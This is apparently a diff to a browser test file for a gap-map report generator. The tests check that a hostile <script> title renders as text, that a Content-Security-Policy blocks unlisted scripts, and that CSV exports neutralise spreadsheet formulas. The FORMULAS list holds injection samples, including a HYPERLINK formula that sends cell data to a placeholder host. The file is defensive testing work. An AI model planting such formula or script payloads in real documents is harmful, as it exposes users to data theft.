@@ -6,7 +6,10 @@ title carrying a ``<script>`` element, then opened from a ``file://`` URL.
 
 from __future__ import annotations
 
+import base64
 import csv
+import hashlib
+import re
 import shutil
 from pathlib import Path
 
@@ -14,13 +17,13 @@ import pytest
 
 from workbench.corpus import BIBLIOGRAPHY, CORPUS_DIR, load_corpus
 from workbench.gaps import CHANNELS, analyse_gaps, write_artefacts
+from workbench.render.gap_map import script_json
 
 CHROMIUM = Path("/usr/bin/chromium")
 ARGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
         "--disable-component-update", "--disable-sync", "--no-first-run"]
 HOSTILE = "<script>window.__pwned = 1</script>"
 HOSTILE_KEY = "gray2020"
-ARTIFACTS = Path(__file__).resolve().parents[2] / "test-artifacts"
 
 pytestmark = pytest.mark.skipif(not CHROMIUM.exists(),
                                 reason="Debian's chromium (/usr/bin/chromium) is not installed")
@@ -196,7 +199,13 @@ def test_a_script_in_a_bibliography_title_renders_as_text(page, built):
     html, analysis = built
     assert "<script>window.__pwned" not in html.read_text(encoding="utf-8")
     register = (html.parent / "gaps.md").read_text(encoding="utf-8")
-    assert "<script>" not in register and "&lt;script&gt;window.__pwned" in register
+    # gaps.md escapes every character that could open markup, so the title is checked as
+    # CommonMark renders it: as text, with no HTML token
+    from markdown_it import MarkdownIt
+
+    tokens = [t for b in MarkdownIt("commonmark").parse(register) for t in [b, *(b.children or [])]]
+    assert "<script>" not in register and not [t for t in tokens if t.type.startswith("html")]
+    assert any(HOSTILE in t.content for t in tokens if t.type == "text")
     open_map(page, built)
     td(page, "standard:5", "topic:lgbt").click()
     citations = page.locator("#evidence-table td.citation").all_text_contents()
@@ -240,8 +249,96 @@ def test_the_map_is_operable_with_the_keyboard(page, built):
     assert "Standard 1," in labels and "academic references" in labels
 
 
-def test_screenshot_for_review(page, built):
+def test_screenshot_for_review(page, built, tmp_path):
     open_map(page, built, "#open=standard:5&cell=guideline:5.4~topic:minoritised_ethnicity")
-    ARTIFACTS.mkdir(exist_ok=True)
-    page.screenshot(path=str(ARTIFACTS / "gap_map.png"), full_page=True)
-    assert (ARTIFACTS / "gap_map.png").stat().st_size > 10_000
+    page.screenshot(path=str(tmp_path / "gap_map.png"), full_page=True)
+    assert (tmp_path / "gap_map.png").stat().st_size > 10_000
+
+
+def test_the_inline_script_and_style_run_under_a_policy_naming_their_hashes(page, built):
+    html, _ = built
+    text = html.read_text(encoding="utf-8")
+    (policy,) = re.findall(r'http-equiv="Content-Security-Policy" content="([^"]+)"', text)
+    assert "unsafe-inline" not in policy
+    (script,) = re.findall(r"<script>(.*?)</script>", text, re.S)
+    (style,) = re.findall(r"<style>(.*?)</style>", text, re.S)
+    for source, content in (("script-src", script), ("style-src", style)):
+        digest = base64.b64encode(hashlib.sha256(content.encode()).digest()).decode()
+        assert f"{source} 'sha256-{digest}'" in policy
+    console = []
+    page.on("console", lambda message: console.append(message.text))
+    open_map(page, built)
+    assert not [m for m in console if "Content Security Policy" in m], console
+    td(page, "standard:3", "topic:lgbt").click()  # the script runs: the panel fills in
+    assert page.locator("#evidence-title").text_content().startswith("Standard 3 × ")
+    colour = page.locator("#channel-legend .chip").first.evaluate(
+        "n => getComputedStyle(n).backgroundColor")
+    assert colour not in ("", "rgba(0, 0, 0, 0)"), "styles set by the script apply"
+    assert page.errors == []
+
+
+def test_a_script_the_policy_does_not_name_is_refused(page, built, tmp_path):
+    html, _ = built
+    text = html.read_text(encoding="utf-8")
+    tampered = tmp_path / "gap_map.html"
+    tampered.write_text(text.replace("<script>\n", "<script>\nwindow.__tampered = 1;\n", 1),
+                        encoding="utf-8")
+    console = []
+    page.on("console", lambda message: console.append(message.text))
+    page.goto(tampered.as_uri())
+    page.wait_for_timeout(300)
+    assert page.evaluate("window.__tampered") is None
+    assert page.locator("#grid td[role=gridcell]").count() == 0
+    assert [m for m in console if "Content Security Policy" in m]
+
+
+#: Cells a spreadsheet would run as formulas, put in the page's data in place of a citation.
+FORMULAS = ['=HYPERLINK("http://x.invalid/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)",
+            "\t=1", "\r=1"]
+
+
+def test_the_csv_download_neutralises_formulas(page, built, tmp_path):
+    html, analysis = built
+    text = html.read_text(encoding="utf-8")
+    e = analysis.evidence
+    academic = e[e["row_id"].str.startswith("standard:") & (e["channel"] == "academic")]
+    per_cell = academic.groupby(["row_id", "topic_id"])["citation"].agg(lambda c: sorted(set(c)))
+    (row_id, topic_id), citations = next((k, v) for k, v in per_cell.items()
+                                         if len(v) >= len(FORMULAS))
+    replaced = dict(zip(citations, FORMULAS, strict=False))
+    for citation, formula in replaced.items():
+        old = script_json(citation)
+        assert text.count(old) == 1, citation
+        text = text.replace(old, script_json(formula))
+    page_path = tmp_path / "gap_map.html"
+    page_path.write_text(text, encoding="utf-8")
+    page.goto(f"{page_path.as_uri()}#cell={row_id}~{topic_id}")
+    page.wait_for_selector("#evidence-csv")
+    with page.expect_download() as download:
+        page.locator("#evidence-csv").click()
+    raw = Path(download.value.path()).read_bytes().decode("utf-8")  # CRs as they are
+    with open(download.value.path(), encoding="utf-8", newline="") as handle:
+        rows = list(csv.DictReader(handle))
+    shown = {r["citation"] for r in rows if r["channel"] == "academic"}
+    assert {"'" + f for f in FORMULAS} <= shown, "each formula shown as text"
+    assert set(citations) - set(replaced) <= shown, "other citations as they are"
+    assert {r["row_id"] for r in rows} == {row_id}, "cells that are not formulas unchanged"
+    assert not [v for r in rows for v in r.values() if v.startswith(("=", "+", "-", "@"))]
+    assert all(line.startswith('"') for line in raw.split("\n") if line), "every field quoted"
+
+
+def test_the_index_page_runs_its_style_under_its_policy_and_nothing_else(page, tmp_path):
+    from workbench.render.index import write_index
+
+    index = write_index(load_corpus(Path(__file__).resolve().parents[2]), tmp_path,
+                        [Path("gap_map.html")], "0" * 64)
+    text = index.read_text(encoding="utf-8")
+    (policy,) = re.findall(r'http-equiv="Content-Security-Policy" content="([^"]+)"', text)
+    assert policy.startswith("default-src 'none'") and "unsafe-inline" not in policy
+    console = []
+    page.on("console", lambda message: console.append(message.text))
+    page.goto(index.as_uri())
+    assert not [m for m in console if "Content Security Policy" in m], console
+    assert page.locator("h1").evaluate("n => getComputedStyle(n).fontSize") == "25.6px", \
+        "the page's own style sheet applies (h1 at 1.6rem)"
+    assert page.locator('a[href="gap_map.html"]').count() == 1
